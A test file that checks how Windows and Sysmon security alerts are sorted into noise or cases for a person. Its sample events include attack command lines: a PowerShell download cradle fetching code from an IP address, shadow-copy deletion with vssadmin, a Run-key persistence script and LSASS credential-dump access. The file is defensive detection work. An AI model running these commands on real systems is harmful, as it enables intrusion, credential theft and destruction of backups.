import { describe } from 'vitest'
import { check } from '../../test/support/assessment-check.ts'
import { type AlertParts, sysmonProcess, windowsEvent } from '../../test/support/wazuh-alert.ts'

const sysmon = ['sysmon', 'sysmon_eid1_detections', 'windows']
const dropped = ['sysmon', 'sysmon_eid11_detections', 'windows']
const registry = ['sysmon', 'sysmon_eid13_detections', 'windows']
const security = ['windows', 'windows_security']
const powershell = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe'
const cmd = 'C:\\Windows\\System32\\cmd.exe'
const sysmonFile = (fields: { readonly [name: string]: string }) =>
  windowsEvent('11', 'Microsoft-Windows-Sysmon/Operational', fields)
/** A program opens the memory of LSASS with these rights. */
const opensLsass = (sourceImage: string, grantedAccess: string, by = ''): AlertParts => ({
  rule: [
    '92900',
    12,
    `Local Security Authority Subsystem Service (LSASS) process was accessed${by}`,
    ['sysmon', 'sysmon_eid10_detections', 'windows'],
  ],
  data: windowsEvent('10', 'Microsoft-Windows-Sysmon/Operational', {
    sourceImage,
    targetImage: 'C:\\Windows\\System32\\lsass.exe',
    grantedAccess,
  }),
})
/** A program writes an executable where malware likes to be. */
const drops = (image: string, targetFilename: string): AlertParts => ({
  rule: ['92213', 15, 'Executable file dropped in folder commonly used by malware', dropped],
  data: sysmonFile({ image, targetFilename }),
})

describe('Windows sessions and accounts', () => {
  check('logon', 'noise', {
    rule: ['60106', 3, 'Windows Logon Success', [...security, 'authentication_success']],
    data: windowsEvent('4624', 'Security', { targetUserName: 'ann', logonType: '5' }),
  })
  check('logoff', 'noise', {
    rule: ['60137', 3, 'Windows User Logoff', security],
    data: windowsEvent('4634', 'Security', { logonType: '3' }),
  })
  check('one wrong password at the keyboard', 'noise', {
    rule: [
      '60122',
      5,
      'Logon Failure - Unknown user or bad password',
      [...security, 'authentication_failed'],
    ],
    data: windowsEvent('4625', 'Security', {
      targetUserName: 'ann',
      logonType: '2',
      subStatus: '0xc000006a',
    }),
  })
  check('many failures', 'person', {
    rule: ['60204', 10, 'Multiple Windows Logon Failures', [...security, 'authentication_failures']],
    data: windowsEvent('4625', 'Security', { targetUserName: 'administrator', logonType: '3' }),
  })
  check('account created', 'person', {
    rule: ['60109', 8, 'User account enabled or created', [...security, 'adduser', 'account_changed']],
    data: windowsEvent('4720', 'Security', { targetUserName: 'backdoor' }),
  })
  check('a computer changes its password', 'noise', {
    rule: ['60110', 8, 'User account changed', [...security, 'account_changed']],
    data: windowsEvent('4742', 'Security', { targetUserName: 'PC-7$', subjectUserName: 'PC-7$' }),
  })
  check('a weak ticket for a service account', 'person', {
    rule: ['60103', 3, 'Windows audit success event', security],
    data: windowsEvent('4769', 'Security', {
      targetUserName: 'ann@CORP',
      serviceName: 'sql-svc',
      ticketEncryptionType: '0x17',
    }),
  })
  check('administrators group changed', 'person', {
    rule: ['60154', 12, 'Administrators Group Changed', [...security, 'group_changed', 'win_group_changed']],
    data: windowsEvent('4732', 'Security', {}),
  })
  check('audit log cleared', 'person', {
    rule: ['63103', 5, 'Windows audit log was cleared', ['windows', 'logs_cleared']],
    data: windowsEvent('1102', 'Security', {}),
  })
  check('service startup type', 'noise', {
    rule: ['61104', 3, 'Service startup type was changed', ['windows', 'windows_system', 'policy_changed']],
  })
  check('application error', 'noise', {
    rule: [
      '60602',
      9,
      'Windows application error event.',
      ['windows', 'windows_application', 'system_error'],
    ],
  })
  check('software protection', 'noise', {
    rule: [
      '60642',
      3,
      'Software protection service scheduled successfully.',
      ['windows', 'windows_application'],
    ],
  })
  check('Defender found malware', 'person', {
    rule: [
      '62123',
      12,
      'Windows Defender: Antimalware platform detected potentially unwanted software',
      ['windows', 'windows_defender'],
    ],
  })
})

describe('Windows programs', () => {
  check('Office starts PowerShell', 'person', {
    rule: ['92044', 4, 'Office application started powershell', sysmon],
    data: sysmonProcess({
      image: powershell,
      parentImage: 'C:\\Program Files\\Microsoft Office\\WINWORD.EXE',
      commandLine: 'powershell.exe -w hidden -c calc',
    }),
  })
  check('download cradle', 'person', {
    rule: ['92027', 4, 'Powershell process spawned powershell instance', sysmon],
    data: sysmonProcess({
      image: powershell,
      parentImage: powershell,
      commandLine: "powershell IEX(New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')",
    }),
  })
  check(
    'LSASS dump',
    'person',
    opensLsass('C:\\x\\dump.exe', '0x1fffff', ' by C:\\x\\dump.exe, possible code injection'),
  )
  check('PowerShell opens LSASS', 'person', opensLsass(powershell, '0x1010'))
  check('WMI looks at LSASS', 'noise', opensLsass('C:\\Windows\\System32\\wbem\\wmiprvse.exe', '0x1410'))
  check('a prompt opened by hand', 'noise', {
    rule: ['92052', 4, 'Windows command prompt started by an abnormal process', sysmon],
    data: sysmonProcess({
      image: cmd,
      parentImage: 'C:\\Windows\\explorer.exe',
      commandLine: '"C:\\Windows\\System32\\cmd.exe"',
    }),
  })
  check(
    'an installer unpacks itself',
    'noise',
    drops(
      'C:\\Users\\ann\\Downloads\\VC_redist.x64.exe',
      'C:\\Users\\ann\\AppData\\Local\\Temp\\x\\VC_redist.x64.exe',
    ),
  )
  check(
    'malware named like an updater',
    'person',
    drops('C:\\Users\\Public\\MicrosoftEdgeUpdate.exe', 'C:\\Users\\ann\\AppData\\Local\\Temp\\a.exe'),
  )
  check('malware named like a part of Windows', 'person', {
    rule: [
      '61618',
      12,
      'Sysmon - Suspicious Process - svchost.exe',
      ['windows', 'sysmon', 'sysmon_process-anomalies'],
    ],
    data: sysmonProcess({
      image: 'C:\\ProgramData\\svchost.exe',
      parentImage: cmd,
      commandLine: 'svchost.exe',
    }),
  })
  check('a driver is installed', 'noise', {
    rule: ['92217', 6, 'Executable dropped in Windows root folder', dropped],
    data: sysmonFile({
      image: 'C:\\Windows\\System32\\drvinst.exe',
      targetFilename: 'C:\\Windows\\System32\\x.dll',
    }),
  })
  check('PowerShell talks to the internet', 'person', {
    rule: [
      '92101',
      6,
      'Powershell process communicating over TCP',
      ['sysmon', 'sysmon_eid3_detections', 'windows'],
    ],
    data: windowsEvent('3', 'Microsoft-Windows-Sysmon/Operational', {
      image: powershell,
      sourceIp: '10.0.0.1',
      destinationIp: '198.51.100.1',
      destinationPort: '443',
    }),
  })
  check(
    'antivirus reads LSASS',
    'noise',
    opensLsass(
      'C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18\\MsMpEng.exe',
      '0x1410',
      ' by C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18\\MsMpEng.exe',
    ),
  )
  check('shadow copies deleted', 'person', {
    rule: ['92032', 3, 'Suspicious Windows cmd shell execution', sysmon],
    data: sysmonProcess({
      image: 'C:\\Windows\\System32\\vssadmin.exe',
      parentImage: cmd,
      commandLine: 'vssadmin delete shadows /all /quiet',
    }),
  })
  check(
    'browser updates itself',
    'noise',
    drops(
      'C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe',
      'C:\\Users\\ann\\AppData\\Local\\Temp\\chrome_installer.exe',
    ),
  )
  check(
    'policy test file',
    'noise',
    drops(powershell, 'C:\\Users\\ann\\AppData\\Local\\Temp\\__PSScriptPolicyTest_ab12cd34.xyz.ps1'),
  )
  check(
    'certutil writes a program',
    'person',
    drops('C:\\Windows\\System32\\certutil.exe', 'C:\\Users\\ann\\AppData\\Local\\Temp\\svc.exe'),
  )
  check('Windows updates itself', 'noise', {
    rule: ['92219', 6, 'Possible DLL search order hijack', dropped],
    data: sysmonFile({
      image: 'C:\\Windows\\System32\\svchost.exe',
      targetFilename: 'C:\\Windows\\SoftwareDistribution\\Download\\x\\a.dll',
    }),
  })
  check('mapped drive by logon script', 'noise', {
    rule: ['92036', 3, 'A net.exe binary was started by a Windows cmd shell', sysmon],
    data: sysmonProcess({
      image: 'C:\\Windows\\System32\\net.exe',
      parentImage: cmd,
      parentCommandLine: 'cmd /c "C:\\Scripts\\logon.bat"',
      commandLine: 'net use Z: \\\\files\\public',
    }),
  })
  check('run key of a product', 'noise', {
    rule: ['92302', 6, 'Registry entry to be executed on next logon was modified', registry],
    data: windowsEvent('13', 'Microsoft-Windows-Sysmon/Operational', {
      targetObject: 'HKU\\S-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDrive',
      details: '"C:\\Users\\ann\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /background',
      image: 'C:\\Users\\ann\\AppData\\Local\\Microsoft\\OneDrive\\OneDriveSetup.exe',
    }),
  })
  check('run key to a script', 'person', {
    rule: ['92302', 6, 'Registry entry to be executed on next logon was modified', registry],
    data: windowsEvent('13', 'Microsoft-Windows-Sysmon/Operational', {
      targetObject: 'HKU\\S-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\upd',
      details: 'wscript C:\\Users\\Public\\u.vbs',
      image: 'C:\\Windows\\System32\\reg.exe',
    }),
  })
  check('module that ships with Windows', 'noise', {
    rule: ['91802', 4, 'Powershell script queried registry value', ['windows', 'powershell']],
    data: windowsEvent('4104', 'Microsoft-Windows-PowerShell/Operational', {
      scriptBlockText:
        '# Copyright (c) Microsoft Corporation. All rights reserved. function Get-Something {}',
      path: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\Modules\\x\\x.psm1',
    }),
  })
})
